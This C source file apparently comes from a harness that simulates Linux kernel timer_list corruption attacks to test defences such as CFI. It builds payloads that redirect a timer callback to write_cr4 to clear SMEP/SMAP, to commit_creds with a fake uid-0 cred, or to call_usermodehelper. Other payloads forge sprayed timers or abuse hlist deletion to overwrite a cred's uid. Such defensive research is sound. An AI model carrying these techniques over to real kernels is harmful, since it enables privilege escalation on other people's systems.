/* SPDX-License-Identifier: MIT */
/*
 * Payloads (docs/attacks.md, "Payloads"): what the overwrite points .function (and
 * .data) at. The attacker knows every code address (KASLR defeated by a
 * leak) and writes them as bytes: an address becomes data here, it is never
 * cast to a function type and never called by the attacker. Only the wheel
 * calls it, through call_timer_fn().
 */
#include "attack.h"

#include <stdio.h>
#include <string.h>

#include "sysmap.h"

static uintptr_t code_addr_write_cr4(void)
{
	return (uintptr_t)&write_cr4;
}

static void set_function(struct th_plan *plan, uintptr_t fn, const char *name)
{
	plan->img.timer.function = fn;
	plan->sets_function = 1;
	plan->goal.has_function = 1;
	plan->goal.function = fn;
	plan->reach = ATK_OFF_FUNCTION + sizeof(plan->img.timer.function);
	snprintf(plan->what, sizeof(plan->what), ".function = %s (0x%lx)", name,
		 (unsigned long)fn);
}

#if TH_ATK_HAS_DATA
/* Both 4.14-layout variants call fn(.data): choosing .data is choosing the
 * argument, so the intent is that value (its target is set by the caller). */
static void set_data(struct th_plan *plan, unsigned long data, const char *name)
{
	size_t len = strlen(plan->what);

	plan->img.timer.data = data;
	plan->sets_data = 1;
	plan->goal.has_data = 1;
	plan->goal.data = data;
	th_intent.kind = TH_INTENT_VALUE;
	th_intent.value = data;
	plan->reach = ATK_OFF_DATA + sizeof(plan->img.timer.data);
	snprintf(plan->what + len, sizeof(plan->what) - len, "%s.data = %s (0x%lx)",
		 len ? ", " : "", name, data);
}
#endif

/*
 * list:* payloads write the timer's struct hlist_node entry, which lies
 * before .function: the image need reach no further than the last pointer
 * written. Addresses as numbers, as everywhere here.
 */
static void set_entry(struct th_plan *plan, int which_next, uintptr_t v, const char *name)
{
	size_t len = strlen(plan->what);
	size_t end;

	if (which_next) {
		plan->img.timer.next = v;
		plan->goal.has_next = 1;
		plan->goal.next = v;
		end = ATK_OFF_NEXT + sizeof(plan->img.timer.next);
	} else {
		plan->img.timer.pprev = v;
		plan->goal.has_pprev = 1;
		plan->goal.pprev = v;
		end = ATK_OFF_PPREV + sizeof(plan->img.timer.pprev);
	}
	if (plan->reach < end)
		plan->reach = end;
	snprintf(plan->what + len, sizeof(plan->what) - len, "%sentry.%s = %s (0x%lx)",
		 len ? ", " : "", which_next ? "next" : "pprev", name, (unsigned long)v);
}

/* Bytes in name that the target will read through the ring pointer (legacy
 * .data = the ring): a fake cred, or a path. Pointless on the other
 * variants (their argument is the timer), where the attacker tries anyway. */
static void plant(struct th_plan *plan, const void *bytes, size_t n, const char *what)
{
	size_t len = strlen(plan->what);

	memset(plan->img.name, 0, sizeof(plan->img.name));
	memcpy(plan->img.name, bytes, n);
	plan->plant_len = n;
	plan->goal.has_name = 1;
	memcpy(plan->goal.name, bytes, n);
	plan->goal.name_len = n;
	snprintf(plan->what + len, sizeof(plan->what) - len, ", name = %s", what);
}

int th_payload_resolve(const char *const *names, size_t n, uintptr_t *addr, char *name,
		       size_t namesz)
{
	for (size_t i = 0; i < n; i++)
		if (!th_sysmap_lookup(names[i], addr)) {
			snprintf(name, namesz, "%s", names[i]);
			return 0;
		}
	th_emit("TH-NOTE: cannot resolve %s in the image's symbol table", names[0]);
	fprintf(stderr, "th-attack: cannot resolve %s in the image's symbol table\n", names[0]);
	return -1;
}

static int resolve(struct th_plan *plan, const char *const *names, size_t n)
{
	return th_payload_resolve(names, n, &plan->resolved, plan->resolved_name,
				  sizeof(plan->resolved_name));
}

int th_payload_prepare(struct th_plan *plan, enum th_payload p, int packet_sock)
{
	static const char *const direct[] = { "write_cr4_direct" };
	/* Under cfi-icall ring_force_close is the jump-table entry and its
	 * body is ring_force_close.cfi; without, the function is its body. */
	static const char *const body[] = { "ring_force_close.cfi", "ring_force_close" };

	memset(plan, 0, sizeof(*plan));
	plan->payload = p;
	plan->packet_sock = packet_sock;
	if (packet_sock) {
		plan->legit_fn = (uintptr_t)&prb_retire_rx_blk_timer_expired;
		plan->legit_name = "prb_retire_rx_blk_timer_expired";
		plan->fake_timer_off = TH_PO_TIMER_OFF;
	} else {
		plan->legit_fn = (uintptr_t)&neighbour_timer_fn;
		plan->legit_name = "neighbour_timer_fn";
		plan->fake_timer_off = ATK_OFF_TIMER;
	}
	memset(&th_intent, 0, sizeof(th_intent));
	if (p == TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN)
		return resolve(plan, direct, 1);
	if (p == TH_PAYLOAD_FUNC_RAW_BODY)
		return resolve(plan, body, 2);
	if (p == TH_PAYLOAD_LIST_FORGED_TIMER) {
		atk_timer forged;

		/* A timer_list of the attacker's (its own layout, atk_timer):
		 * no successor, .function = write_cr4 and, on the 4.14 layout,
		 * .data = the CR4 value: expire_timers() calls fn(data) on 4.14,
		 * fn(timer) on 4.15. flags 0: CPU 0, not TIMER_IRQSAFE. */
		memset(&forged, 0, sizeof(forged));
		forged.function = code_addr_write_cr4();
#if TH_ATK_HAS_DATA
		forged.data = TH_CR4_CHOSEN;
#endif
		plan->fake = (uintptr_t)spray_alloc(&forged, sizeof(forged));
		if (!plan->fake)
			return -1;
		th_emit("TH-NOTE: sprayed a forged timer_list at 0x%lx (address leaked): next = NULL, .function = write_cr4 (0x%lx)%s",
			(unsigned long)plan->fake, (unsigned long)forged.function,
			TH_ATK_HAS_DATA ? ", .data = 0x407f0" : "");
	}
#if TH_ATK_HAS_DATA
	if (p == TH_PAYLOAD_DATA_FAKE_OBJECT && packet_sock) {
		/* A socket of the attacker's whose block the callback closes:
		 * prb_close_block() writes 0 through pkc->prev, aimed at the
		 * attacker's own uid (af_packet.h). */
		plan->fake = th_af_spray_fake_socket((uintptr_t)&current_cred +
						     offsetof(struct atk_cred, uid));
		if (!plan->fake)
			return -1;
		th_emit("TH-NOTE: sprayed a fake packet_sock at 0x%lx (address leaked): one block, the kernel's, with a frame; pkc->prev = &current_cred.uid; sk_data_ready = sock_def_readable",
			(unsigned long)plan->fake);
	} else if (p == TH_PAYLOAD_DATA_FAKE_OBJECT) {
		struct atk_ring fake;

		/* A neighbour whose cur_block is the attacker's own cred uid:
		 * its callback's "block_status = 0" becomes
		 * "current_cred.uid = 0", a write-what-where. */
		memset(&fake, 0, sizeof(fake));
		memcpy(fake.name, "fake", 5);
		fake.cur_block = (uintptr_t)&current_cred + offsetof(struct atk_cred, uid);
		plan->fake = (uintptr_t)spray_alloc(&fake, sizeof(fake));
		if (!plan->fake)
			return -1;
		th_emit("TH-NOTE: sprayed a fake ring at 0x%lx (address leaked): cur_block = &current_cred.uid",
			(unsigned long)plan->fake);
	}
#endif
	return 0;
}

struct th_aim th_aim;

void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
{
	plan->img = *base;
	plan->goal.control = plan->payload == TH_PAYLOAD_NONE;

	switch (plan->payload) {
	case TH_PAYLOAD_NONE:
		snprintf(plan->what, sizeof(plan->what), "nothing (control run)");
		break;
	case TH_PAYLOAD_FUNC_DATA_WRITE_CR4:
#if TH_ATK_HAS_DATA
		set_function(plan, code_addr_write_cr4(), "write_cr4");
		set_data(plan, TH_CR4_CHOSEN, "CR4 without SMEP/SMAP");
		th_intent.target = "write_cr4";
#endif
		break;
	case TH_PAYLOAD_FUNC_WRITE_CR4:
		/* .data untouched (or absent): the attacker chooses no argument. */
		set_function(plan, code_addr_write_cr4(), "write_cr4");
		th_intent.target = "write_cr4";
		break;
	case TH_PAYLOAD_FUNC_SAME_CLASS:
		set_function(plan, (uintptr_t)&ring_force_close, "ring_force_close");
		th_intent.target = "ring_force_close";
		break;
	case TH_PAYLOAD_FUNC_PTR_CLASS: {
		/* The 16 bytes of a cred that fit in name (layout.h atk_cred:
		 * usage, uid, gid, suid; euid lies at +20, in the timer). */
		struct atk_cred fake = { .usage = TH_FAKE_CRED_USAGE, .uid = 0, .gid = 0, .suid = 0 };

		set_function(plan, (uintptr_t)&commit_creds, "commit_creds");
		plant(plan, &fake, sizeof(fake), "a fake cred (usage 0x1337, uid 0)");
		th_intent.target = "commit_creds";
		th_intent.kind = TH_INTENT_CRED;
		th_intent.cred.usage = fake.usage;
		th_intent.cred.uid = fake.uid;
		th_intent.cred.gid = fake.gid;
		th_intent.cred.suid = fake.suid;
		break;
	}
	case TH_PAYLOAD_FUNC_OTHER_PROTO:
		set_function(plan, (uintptr_t)&call_usermodehelper, "call_usermodehelper");
		plant(plan, TH_CHOSEN_PATH, sizeof(TH_CHOSEN_PATH), "\"" TH_CHOSEN_PATH "\"");
		th_intent.target = "call_usermodehelper";
		th_intent.kind = TH_INTENT_STRING;
		snprintf(th_intent.string, sizeof(th_intent.string), "%s", TH_CHOSEN_PATH);
		break;
	case TH_PAYLOAD_FUNC_MID_FUNCTION:
		/* Inside write_cr4's body. Under cfi-icall &write_cr4 is its
		 * jump-table slot, so this is the middle of that slot's jmp. */
		set_function(plan, code_addr_write_cr4() + 4, "write_cr4+4");
		th_intent.target = "write_cr4";
		break;
	case TH_PAYLOAD_FUNC_DATA_ADDRESS:
		set_function(plan, (uintptr_t)&sim_cpu, "&sim_cpu (a data object)");
		th_intent.target = "sim_cpu";
		break;
	case TH_PAYLOAD_DATA_FAKE_OBJECT:
#if TH_ATK_HAS_DATA
	{
		/* legacy: .data is the object; rc3 shim: .data is its timer. */
#if defined(TH_ATK_TRANSITIONAL)
		unsigned long data = plan->fake + plan->fake_timer_off;
#else
		unsigned long data = plan->fake;
#endif
		/* A linear write passes .function: it keeps the legitimate one. */
		plan->img.timer.function = plan->legit_fn;
		set_data(plan, data, plan->packet_sock ? "the fake socket" : "the fake ring");
		th_intent.target = plan->legit_name;
	}
#endif
		break;
	case TH_PAYLOAD_FUNC_FOREIGN_CALLBACK:
		/*
		 * process_timeout (kernel/time/timer.c), the timer callback of
		 * schedule_timeout(): it has the call site's type on every
		 * variant, and wakes a task the attacker names. On the 4.14
		 * layout it wakes the task in .data (the rc3 tree had not
		 * converted it); on 4.15 it wakes from_timer()'s process_timer
		 * ->task, the word right after the timer (the ring's owner_uid
		 * and closed). The attacker names its own sleeping task.
		 */
		set_function(plan, (uintptr_t)&process_timeout, "process_timeout");
#if TH_ATK_HAS_DATA
		set_data(plan, (unsigned long)(uintptr_t)&attacker_task, "the attacker's task");
#else
		{
			size_t len = strlen(plan->what);
			uintptr_t task = (uintptr_t)&attacker_task;

			memcpy((char *)&plan->img + ATK_OFF_TIMER + sizeof(atk_timer), &task, sizeof(task));
			plan->reach = ATK_OFF_TIMER + sizeof(atk_timer) + sizeof(task);
			plan->sets_after = 1;
			snprintf(plan->what + len, sizeof(plan->what) - len,
				 ", the word after the timer = the attacker's task (0x%lx)", (unsigned long)task);
		}
#endif
		th_intent.target = "process_timeout";
		th_intent.kind = TH_INTENT_TASK;
		th_intent.value = (uintptr_t)&attacker_task;
		break;
	case TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN:
		/* From the symbol table: taking its address in C would put it in
		 * the jump table. */
		set_function(plan, plan->resolved, "write_cr4_direct (address never taken)");
		th_intent.target = "write_cr4_direct";
		break;
	case TH_PAYLOAD_FUNC_RAW_BODY: {
		char what[96];

		snprintf(what, sizeof(what), "%s (the body, not a jump-table entry)", plan->resolved_name);
		set_function(plan, plan->resolved, what);
		th_intent.target = "ring_force_close";
		break;
	}
	case TH_PAYLOAD_LIST_FORGED_TIMER:
		/*
		 * kernel/time/timer.c (v4.14, v4.15) expire_timers(): while
		 * (!hlist_empty(head)) { timer = hlist_entry(head->first, ...);
		 * detach_timer(timer, true); call_timer_fn(timer, fn, data); }.
		 * Detaching the ring's timer makes head->first its entry.next,
		 * so the walk goes on to the forged timer and calls it. Before
		 * the timer is armed, mod_timer()'s hlist_add_head() rewrites
		 * entry.next: the plant is lost (the view's pprev is 0 then).
		 */
		set_entry(plan, 1, plan->fake, "the forged timer_list");
		th_intent.target = "write_cr4";
#if TH_ATK_HAS_DATA
		/* fn(data): .data of the forged timer is the argument. */
		th_intent.kind = TH_INTENT_VALUE;
		th_intent.value = TH_CR4_CHOSEN;
#endif
		break;
	case TH_PAYLOAD_LIST_HLIST_DEL: {
		/* The attacker's cred mirror (atk_cred): where uid lies. */
		uintptr_t uid = (uintptr_t)&current_cred + offsetof(struct atk_cred, uid);

		/*
		 * include/linux/list.h __hlist_del(n): *n->pprev = n->next;
		 * if (n->next) n->next->pprev = n->pprev. Run by detach_timer()
		 * on expiry, and by detach_if_pending() from mod_timer() and
		 * del_timer() on a timer that looks pending (pprev != NULL).
		 */
		if (plan->pending) {
			/* At expiry collect_expired_timers()' hlist_move_list()
			 * has just rewritten pprev (the timer heads its bucket):
			 * only next is the attacker's, and next->pprev = pprev
			 * puts the list head's address over uid and gid. Its
			 * *pprev = next also makes next the list's head: the
			 * walk then takes the cred as a timer and faults (an
			 * oops in the softirq), after the write. */
			set_entry(plan, 1, uid - sizeof(uintptr_t), "&current_cred.uid - 8");
		} else {
			/* Not yet armed: mod_timer() finds pprev set, detaches,
			 * and *pprev = next writes 0 over uid and gid. */
			set_entry(plan, 1, 0, "NULL");
			set_entry(plan, 0, uid, "&current_cred.uid");
		}
		break;
	}
	case TH_PAYLOAD_USE_CALLBACK_WRITE_CR4:
	case TH_PAYLOAD_LIST_FORGED_TASKLET:
		/* The tasklet's (tasklet_attack.c); not applicable to a timer. */
	case TH_PAYLOAD_COUNT:
		break;
	}
	if (th_aim.name) {
		/* Aimed: .function at the named symbol, .data (and the word
		 * after the timer) left as they are. */
		memset(&th_intent, 0, sizeof(th_intent));
		plan->sets_data = 0;
		plan->goal.has_data = 0;
		plan->sets_after = 0;
		set_function(plan, th_aim.addr, th_aim.name);
		th_intent.target = th_aim.name;
	}
}
